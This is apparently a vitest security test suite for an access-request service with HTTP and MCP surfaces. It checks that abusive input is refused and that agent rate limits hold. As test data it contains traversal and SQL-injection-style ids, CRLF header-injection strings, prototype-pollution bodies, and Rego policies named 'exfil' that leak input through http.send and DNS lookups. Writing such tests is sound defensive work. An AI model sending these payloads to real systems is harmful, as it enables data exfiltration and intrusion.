/**
 * Input abuse on both surfaces, and agent rate limits across surfaces: oversized fields and bodies, deep nesting, control characters and
 * header-injection attempts in what reaches providers, traversal in ids, absurd durations,
 * prototype-pollution keys. Each must get a clear 4xx (or MCP isError), change nothing, and leave
 * the server healthy. Policies that loop or call http.send must not hang the server or touch the
 * network. (NUL bytes and deep policy-eval input are FINDINGS 1 and 2: test/security/findings.test.ts.)
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { errorOf, ok, postMcp } from '../helpers/mcp-client.js';
import { API, createBody, type SecHarness, startSecHarness } from './support.js';

describe('input abuse', () => {
  let h: SecHarness;
  let alice: string;
  let bob: string;
  let admin: string;
  let agentMcp: Client;
  let before: Record<string, number>;
  let pendingId: string;

  const post = (path: string, token: string, body: unknown) =>
    h.call('POST', `${API}${path}`, { token, body });
  /** A clear refusal: 4xx with the JSON error envelope, never a stack. */
  const refused = (r: { status: number; text: string; body: any }, label: string) => {
    expect(r.status, `${label}: ${r.text.slice(0, 300)}`).toBeGreaterThanOrEqual(400);
    expect(r.status, `${label}: ${r.text.slice(0, 300)}`).toBeLessThan(500);
    expect(r.body?.error?.code, label).toBeTypeOf('string');
    expect(r.text.length, label).toBeLessThan(20_000);
    expect(r.text).not.toMatch(/\.ts:\d+|node_modules|at async /);
  };
  const healthy = async () => {
    expect((await h.call('GET', '/healthz')).status).toBe(200);
    expect((await h.call('GET', '/readyz')).status).toBe(200);
    const created = await post('/requests', alice, createBody({ role: 'deployer' }));
    expect(created.status, created.text).toBe(201);
    await post(`/requests/${created.body.request.id}/cancel`, alice, {});
  };

  beforeAll(async () => {
    h = await startSecHarness({
      config: {
        agents: { limits: { max_open_requests: 100, max_requests_per_hour: 500, max_active_grants: 50 } },
      },
    });
    alice = await h.human('alice@example.com', ['sre']);
    bob = await h.human('bob@example.com');
    admin = await h.human('root@example.com', ['jitsudo-admins']);
    agentMcp = await h.mcp((await h.agent('fuzz', 'alice@example.com')).token);
    pendingId = (await post('/requests', alice, createBody({ role: 'deployer' }))).body.request.id;
  });
  afterEach(async () => {
    expect((await h.verify()).ok).toBe(true);
  });
  afterAll(() => h?.close());

  it('oversized fields and bodies: 400/413, nothing stored', async () => {
    before = await h.counts();
    const grants = h.mock.calls.grant;
    const mb = 'x'.repeat(1_000_000);
    const cases: [string, () => Promise<any>][] = [
      ['1 MB reason', () => post('/requests', alice, createBody({ reason: mb }))],
      ['4097-char reason', () => post('/requests', alice, createBody({ reason: 'r'.repeat(4097) }))],
      ['1 MB role', () => post('/requests', alice, createBody({ role: mb }))],
      ['1 MB scope', () => post('/requests', alice, createBody({ resource_scope: mb }))],
      ['1 MB provider', () => post('/requests', alice, createBody({ provider: mb }))],
      [
        '100 metadata entries',
        () =>
          post(
            '/requests',
            alice,
            createBody({
              metadata: Object.fromEntries(Array.from({ length: 100 }, (_, i) => [`k${i}`, 'v'])),
            }),
          ),
      ],
      ['1 MB metadata value', () => post('/requests', alice, createBody({ metadata: { k: mb } }))],
      ['1 MB comment', () => post(`/requests/${pendingId}/approve`, bob, { comment: mb })],
      ['1 MB deny reason', () => post(`/requests/${pendingId}/deny`, bob, { reason: mb })],
      ['2 MB body', () => post('/requests', alice, createBody({ reason: mb, metadata: { k: mb } }))],
      [
        '10 MB body',
        () =>
          h.call('POST', `${API}/requests`, { token: alice, raw: `{"reason":"${'y'.repeat(10_000_000)}"}` }),
      ],
      [
        '10 MB policy',
        () => post('/policies', admin, { name: 'big', rego: `package x\n# ${'z'.repeat(10_000_000)}` }),
      ],
      [
        '10 MB dev-token body',
        () => h.call('POST', `${API}/auth/dev-token`, { raw: `{"email":"${'a'.repeat(10_000_000)}@x"}` }),
      ],
      [
        '1 MB audit filter',
        () => h.call('GET', `${API}/audit?actor=${'a'.repeat(100_000)}`, { token: admin }),
      ],
      ['huge page size', () => h.call('GET', `${API}/requests?page_size=99999999`, { token: alice })],
      [
        'forged page token',
        () => h.call('GET', `${API}/requests?page_token=${'A'.repeat(500)}`, { token: alice }),
      ],
    ];
    for (const [label, run] of cases) refused(await run(), label);
    expect(await h.counts()).toEqual(before);
    expect(h.mock.calls.grant).toBe(grants);
    // The same over MCP, and a 10 MB body on /mcp.
    const r = await h.ask(agentMcp, { role: 'deployer', reason: mb });
    expect(r.isError).toBe(true);
    const big = await postMcp(
      h.app,
      { authorization: `Bearer ${alice}` },
      `{"jsonrpc":"2.0","id":1,"method":"tools/list","params":{"x":"${'q'.repeat(10_000_000)}"}}`,
    );
    expect(big.status).toBe(413);
    expect(await h.counts()).toEqual(before);
    await healthy();
  });

  it('malformed and deeply nested bodies: 400, no crash (HTTP and MCP)', async () => {
    before = await h.counts();
    let deepArr = '1';
    for (let i = 0; i < 200_000; i++) deepArr = `[${deepArr}]`;
    let deepObj = '"v"';
    for (let i = 0; i < 100_000; i++) deepObj = `{"a":${deepObj}}`;
    const raw = (body: string, path = '/requests', token = alice) =>
      h.call('POST', `${API}${path}`, { token, raw: body });
    const cases: [string, () => Promise<any>][] = [
      ['not JSON', () => raw('{"provider": ')],
      ['empty', () => raw('')],
      ['array', () => raw('[]')],
      ['null', () => raw('null')],
      ['string', () => raw('"hello"')],
      [
        'wrong content-type',
        () =>
          h.call('POST', `${API}/requests`, {
            token: alice,
            raw: '{}',
            headers: { 'content-type': 'text/plain' },
          }),
      ],
      [
        'deep array metadata',
        () =>
          raw(`{"provider":"mock","role":"r","resource_scope":"d","reason":"x","metadata":{"a":${deepArr}}}`),
      ],
      [
        'deep object metadata',
        () => raw(`{"provider":"mock","role":"r","resource_scope":"d","reason":"x","metadata":${deepObj}}`),
      ],
      ['deep reason', () => raw(`{"provider":"mock","role":"r","resource_scope":"d","reason":${deepArr}}`)],
      ['deep approve body', () => raw(`{"comment":${deepObj}}`, `/requests/${pendingId}/approve`, bob)],
      [
        'deep trust tier',
        () =>
          h.call('PUT', `${API}/principals/x@example.com/trust-tier`, {
            token: admin,
            raw: `{"trust_tier":${deepArr}}`,
          }),
      ],
      ['deep policy apply', () => raw(`{"name":"n","rego":${deepObj}}`, '/policies', admin)],
      ['deep agent create', () => raw(`{"name":${deepArr}}`, '/agents')],
    ];
    for (const [label, run] of cases) refused(await run(), label);
    const mcpDeep = await postMcp(
      h.app,
      { authorization: `Bearer ${alice}` },
      `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"request_access","arguments":{"provider":"mock","role":"r","scope":"d","reason":${deepObj}}}}`,
    );
    expect(mcpDeep.status).toBeLessThan(500);
    expect(await mcpDeep.text()).not.toMatch(/\.ts:\d+|at async /);
    const mcpGarbage = await postMcp(
      h.app,
      { authorization: `Bearer ${alice}` },
      '{"jsonrpc":"2.0","id":1,"method":',
    );
    expect(mcpGarbage.status).toBeLessThan(500);
    expect(await h.counts()).toEqual(before);
    await healthy();
  });

  it('control characters, CRLF and invisible unicode in role/scope/provider never reach a provider', async () => {
    before = await h.counts();
    const grants = h.mock.calls.grant;
    const nasty = [
      'ReadOnly\r\nX-Injected: 1',
      'ReadOnly\nAccess',
      'Read\tOnly',
      'ReadOnly\u001b[31m',
      'ReadOnly\u202eeliforp',
      'Read\u200bOnlyAccess',
      ' ',
      '\u0000',
      '../../etc/passwd',
      'ReadOnly%0d%0aX: y',
      '😀ReadOnly',
    ];
    for (const v of nasty) {
      refused(await post('/requests', alice, createBody({ role: v })), `role ${JSON.stringify(v)}`);
      refused(
        await post('/requests', alice, createBody({ resource_scope: v })),
        `scope ${JSON.stringify(v)}`,
      );
      refused(await post('/requests', alice, createBody({ provider: v })), `provider ${JSON.stringify(v)}`);
      const m = await h.ask(agentMcp, { role: v, reason: 'x' });
      expect(errorOf(m).code, JSON.stringify(v)).toMatch(/VALIDATION|NOT_FOUND|SDK/);
    }
    expect(await h.counts()).toEqual(before);
    expect(h.mock.calls.grant).toBe(grants);
    // Header injection in the request id / identity positions.
    refused(await h.call('GET', `${API}/requests/req_X%0d%0aSet-Cookie:%20a=b`, { token: alice }), 'crlf id');
    const r = await h.call('GET', `${API}/principals/${encodeURIComponent('a@b.c\r\nX: y')}`, {
      token: admin,
    });
    refused(r, 'crlf identity');
    expect(r.headers.get('x')).toBeNull();
    await healthy();
  });

  it('path traversal and odd ids: 4xx, never another resource', async () => {
    const paths = [
      `/requests/..%2F..%2Faudit`,
      `/requests/${pendingId}%2F..%2F..%2Fpolicies`,
      `/requests/${pendingId}%00`,
      `/requests/${pendingId}..`,
      `/requests/${pendingId.toLowerCase()}`,
      `/requests/req_${'0'.repeat(26)}' or '1'='1`,
      `/requests/%2e%2e`,
      `/policies/..%2F..%2Fetc%2Fpasswd`,
      `/policies/pol_${'Z'.repeat(26)}`,
      `/agents/..%2Fagt_x/revoke`,
      `/principals/..%2F..%2Fadmin`,
    ];
    for (const p of paths) {
      const r = await h.call('GET', `${API}${p}`, { token: bob });
      expect(r.status, `${p}: ${r.text}`).toBeGreaterThanOrEqual(400);
      expect(r.status, `${p}: ${r.text}`).toBeLessThan(500);
      expect(r.text).not.toMatch(/"request":\{|"policy":\{|"events"/);
    }
    for (const id of ['../../x', `${pendingId}/../x`, 'req_%00', "req_' or 1=1 --"]) {
      const m = await h.tool(agentMcp, 'get_request', { request_id: id });
      expect(errorOf(m).code, id).toMatch(/NOT_FOUND|VALIDATION/);
    }
    await healthy();
  });

  it('negative, zero, huge, fractional, NaN-like and malformed durations: 400', async () => {
    before = await h.counts();
    const durations: unknown[] = [
      -1,
      0,
      0.5,
      1.5,
      -0,
      1e308,
      2 ** 53 + 2,
      Number.MAX_SAFE_INTEGER,
      '-30m',
      '0',
      '0s',
      'NaN',
      'Infinity',
      '-Infinity',
      '1e9',
      '0x10',
      '1h1h',
      '30m2h',
      'h',
      'm',
      '99999999999999999999d',
      '30m\n5h',
      '１h',
      '30 m',
      '+30m',
      '8d',
      '9999999999',
      '',
      ' ',
      null,
      true,
      [],
      {},
    ];
    for (const d of durations) {
      refused(await post('/requests', alice, createBody({ duration: d })), `duration ${JSON.stringify(d)}`);
    }
    for (const s of [-1, 0, 1.5, 1e308, '60']) {
      const body = { ...createBody({ duration_seconds: s }) } as Record<string, unknown>;
      delete body.duration;
      refused(await post('/requests', alice, body), `duration_seconds ${JSON.stringify(s)}`);
    }
    for (const d of [-5, 0, 1.5, '-1h', 'NaN', '1e9']) {
      const m = await h.ask(agentMcp, { role: 'deployer', reason: 'x', duration: d });
      expect(m.isError, JSON.stringify(d)).toBe(true);
    }
    expect(await h.counts()).toEqual(before);
    await healthy();
  });

  it('prototype-pollution keys change nothing: no pollution, no privilege, no 5xx', async () => {
    const bodies = [
      `{"provider":"mock","role":"ReadOnlyAccess","resource_scope":"dev","reason":"r","metadata":{"__proto__":"x","constructor":"y","toString":"z","hasOwnProperty":"w"}}`,
      `{"provider":"mock","role":"ReadOnlyAccess","resource_scope":"dev","reason":"r","metadata":{"__proto__":{"polluted":"yes"}}}`,
      `{"__proto__":{"break_glass":true,"polluted":"yes"},"provider":"mock","role":"admin","resource_scope":"dev","reason":"r"}`,
      `{"constructor":{"prototype":{"polluted":"yes"}},"provider":"mock","role":"admin","resource_scope":"dev","reason":"r"}`,
    ];
    const results = [];
    for (const b of bodies) results.push(await h.call('POST', `${API}/requests`, { token: bob, raw: b }));
    for (const r of results) expect(r.status, r.text).toBeLessThan(500);
    // bob has no group: only read-only requests may exist, never as break-glass, and a
    // `__proto__` metadata key is dropped or refused, never applied.
    for (const r of results.slice(0, 2)) {
      if (r.status !== 201) refused(r, 'pollution metadata');
      else {
        expect(r.body.request.break_glass).toBe(false);
        expect(Object.getPrototypeOf(r.body.request.metadata)).toBe(Object.prototype);
        expect(Object.keys(r.body.request.metadata)).not.toContain('__proto__');
      }
    }
    for (const r of results.slice(2)) refused(r, 'pollution body');
    const stored = await h.sql(
      "select metadata::text as m from requests where requester_identity = 'bob@example.com'",
    );
    for (const row of stored) expect(String(row.m)).not.toMatch(/polluted/);
    const evalProto = await h.call('POST', `${API}/policies:eval`, {
      token: bob,
      raw: '{"input":{"__proto__":{"user":{"email":"bob@example.com","groups":["sre"]}},"request":{"role":"admin","duration_seconds":60}},"type":"eligibility"}',
    });
    expect(evalProto.status).toBeLessThan(500);
    if (evalProto.status === 200) expect(evalProto.body.allow).toBe(false);
    const applyProto = await h.call('POST', `${API}/policies`, {
      token: admin,
      raw: '{"name":"p","rego":"package p\\nx := 1","__proto__":{"enabled":false}}',
    });
    expect(applyProto.status).toBeLessThan(500);
    const m = await h.tool(agentMcp, 'request_access', {
      provider: 'mock',
      role: 'deployer',
      scope: 'dev',
      reason: 'x',
      ['__proto__' as string]: { break_glass: true },
    });
    expect(m.isError === true || (m.structuredContent as any).request.break_glass === false).toBe(true);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(({} as Record<string, unknown>).break_glass).toBeUndefined();
    expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false);
    await healthy();
  });

  describe('hostile policies', () => {
    let hits = 0;
    let server: Server;
    let url = '';
    const policyIds: string[] = [];
    beforeAll(async () => {
      server = createServer((_q, s) => {
        hits++;
        s.end('{"allow":true}');
      });
      await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
      url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/exfil`;
    });
    afterAll(async () => {
      for (const id of policyIds) await h.call('DELETE', `${API}/policies/${id}`, { token: admin });
      await new Promise((r) => server.close(r));
    });
    const apply = async (name: string, rego: string) => {
      const r = await post('/policies', admin, { name, rego });
      expect(r.status, r.text).toBe(200);
      policyIds.push(r.body.policy.id);
    };

    it('http.send and net.lookup in a user policy make no network call, live or in a dry run', async () => {
      await apply(
        'exfil',
        `package jitsudo.eligibility
grant contains "remote said yes" if {
  r := http.send({"method": "post", "url": "${url}", "body": input})
  r.body.allow
}
grant contains "dns said yes" if {
  count(net.lookup_ip_addr(sprintf("%s.exfil.example.com", [input.user.email]))) > 0
}`,
      );
      const r = await post('/requests', bob, createBody({ role: 'admin' }));
      expect(r.status).toBe(403);
      const dry = await post('/policies:eval', admin, {
        input: { user: { email: 'bob@example.com', groups: [] }, request: { role: 'admin' } },
        candidate: {
          name: 'exfil2',
          rego: `package jitsudo.eligibility\ngrant contains "x" if http.send({"method":"get","url":"${url}"}).status_code == 200`,
        },
      });
      expect(dry.status).toBeLessThan(500);
      await new Promise((res) => setTimeout(res, 200));
      expect(hits).toBe(0);
      await healthy();
    });

    it('a policy that loops (nested ranges) is stopped by the eval budget: fast answer, nothing created', async () => {
      const countBefore = (await h.counts()).requests;
      const spin = `package jitsudo.eligibility
grant contains "never" if {
  some i in numbers.range(1, 100000)
  some j in numbers.range(1, 100000)
  i + j < 0
}`;
      // A set that loops on every input is refused at apply: its trial inputs exceed the budget.
      const refused = await post('/policies', admin, { name: 'spin-always', rego: spin });
      expect(refused.status, refused.text).toBe(400);
      expect(refused.body.error.details).toMatchObject({
        module: 'spin-always.rego',
        code: 'eval_budget_error',
      });
      // One that loops only on an input the trials do not try is applied, and stopped at request time.
      await apply(
        'spin',
        spin.replace(
          'grant contains "never" if {',
          'grant contains "never" if {\n  input.request.reason == "spin now"',
        ),
      );
      const started = Date.now();
      const r = await post('/requests', bob, createBody({ role: 'ReadOnlyAccess', reason: 'spin now' }));
      expect(Date.now() - started).toBeLessThan(5_000);
      expect(r.status, r.text).toBe(503);
      expect(r.body.error.code).toBe('POLICY_ERROR');
      expect(r.status).toBeGreaterThanOrEqual(400);
      expect(r.text).not.toMatch(/\.ts:\d+/);
      expect((await h.counts()).requests).toBe(countBefore);
      const dryStart = Date.now();
      const dry = await post('/policies:eval', admin, {
        input: { user: { email: 'x@example.com', groups: [] }, request: { role: 'x' } },
        candidate: {
          name: 'spin2',
          rego: 'package jitsudo.eligibility\nn := count([1 | some i in numbers.range(1, 5000); some j in numbers.range(1, 5000)])',
        },
      });
      expect(Date.now() - dryStart).toBeLessThan(5_000);
      expect(dry.status).toBeGreaterThanOrEqual(400);
      // Remove it so the rest of the suite can create requests again.
      await h.call('DELETE', `${API}/policies/${policyIds.pop()}`, { token: admin });
      await healthy();
    });

    it('a single huge numbers.range is refused by the builtin, not allocated', async () => {
      const started = Date.now();
      const dry = await post('/policies:eval', admin, {
        input: { user: { email: 'x@example.com', groups: [] } },
        candidate: {
          name: 'huge',
          rego: 'package jitsudo.eligibility\nn := count(numbers.range(1, 1000000000000))',
        },
      });
      expect(Date.now() - started).toBeLessThan(2_000);
      expect(dry.status).toBeLessThan(500);
      expect(dry.body.result?.n).toBeUndefined();
      await healthy();
    });
  });
});

/**
 * Per-agent limits (config agents.limits) hold whichever surface the agent uses: the HTTP API and
 * /mcp share one count. Sequential switching is tested here; a parallel burst is FINDING 3.
 */
describe('agent limits across surfaces', () => {
  let h: SecHarness;
  let agent: { token: string; id: string };
  let mcp: Client;

  const viaHttp = (o: Record<string, unknown> = {}) =>
    h.call('POST', `${API}/requests`, { token: agent.token, body: createBody(o) });
  const viaMcp = (o: Record<string, unknown> = {}) =>
    h.ask(mcp, { role: 'ReadOnlyAccess', reason: 'limits test', ...o });
  const count = async () =>
    Number(
      (await h.sql("select count(*)::int as n from requests where requester_identity = 'agent:lim'"))[0]!.n,
    );
  const expectLimited = async (limit: string, o: Record<string, unknown> = {}) => {
    const n = await count();
    const http = await viaHttp(o);
    expect(http.status, http.text).toBe(429);
    expect(http.body.error).toMatchObject({ code: 'RATE_LIMITED', details: { limit } });
    expect(http.headers.get('retry-after')).toMatch(/^\d+$/);
    const tool = await viaMcp(o.role ? { role: o.role } : {});
    expect(errorOf(tool)).toMatchObject({ code: 'RATE_LIMITED', details: { limit } });
    expect(await count()).toBe(n);
  };

  beforeAll(async () => {
    h = await startSecHarness({
      config: {
        agents: { limits: { max_open_requests: 2, max_requests_per_hour: 5, max_active_grants: 2 } },
      },
    });
    agent = await h.agent('lim', 'alice@example.com');
    await h.setTier('agent:lim', 3); // read-only roles are auto-approved
    mcp = await h.mcp(agent.token);
  });
  afterAll(() => h?.close());

  it('open requests: one over HTTP plus one over MCP fills the limit for both surfaces', async () => {
    const a = await viaHttp({ role: 'deployer' });
    expect(a.body.request.state).toBe('PENDING');
    const b = ok(await viaMcp({ role: 'deployer' }));
    expect(b.request.state).toBe('PENDING');
    await expectLimited('open requests', { role: 'deployer' });
    // Freed on either surface.
    expect(
      (await h.call('POST', `${API}/requests/${a.body.request.id}/cancel`, { token: agent.token, body: {} }))
        .status,
    ).toBe(200);
    ok(await h.tool(mcp, 'cancel_request', { request_id: b.request.id }));
  });

  it('active grants: one over MCP plus one over HTTP fills the limit for both', async () => {
    const a = ok(await viaMcp());
    expect(a.request.state).toBe('ACTIVE');
    const b = await viaHttp();
    expect(b.body.request.state).toBe('ACTIVE');
    await expectLimited('active grants');
    ok(await h.tool(mcp, 'release_access', { request_id: a.request.id }));
  });

  it('requests per hour: counted across both surfaces, freed only when the window moves', async () => {
    expect(await count()).toBe(4);
    const fifth = await viaHttp({ role: 'deployer' });
    expect(fifth.status).toBe(201);
    await h.call('POST', `${API}/requests/${fifth.body.request.id}/cancel`, { token: agent.token, body: {} });
    await expectLimited('requests in the last hour', { role: 'deployer' });
    // Not a stuck counter: an hour later the agent may ask again.
    h.advance(61 * 60_000);
    const later = ok(await viaMcp({ role: 'deployer' }));
    expect(later.request.state).toBe('PENDING');
  });

  it('the limits are the agent’s: its owner is not limited by them, and a revoked agent is simply refused', async () => {
    const alice = await h.human('alice@example.com', ['sre']);
    for (let i = 0; i < 3; i++)
      expect(
        (await h.call('POST', `${API}/requests`, { token: alice, body: createBody({ role: 'deployer' }) }))
          .status,
      ).toBe(201);
    await h.call('POST', `${API}/agents/${agent.id}/revoke`, { token: alice, body: {} });
    expect((await viaHttp()).status).toBe(401);
    await expect(viaMcp()).rejects.toThrow();
  });
});
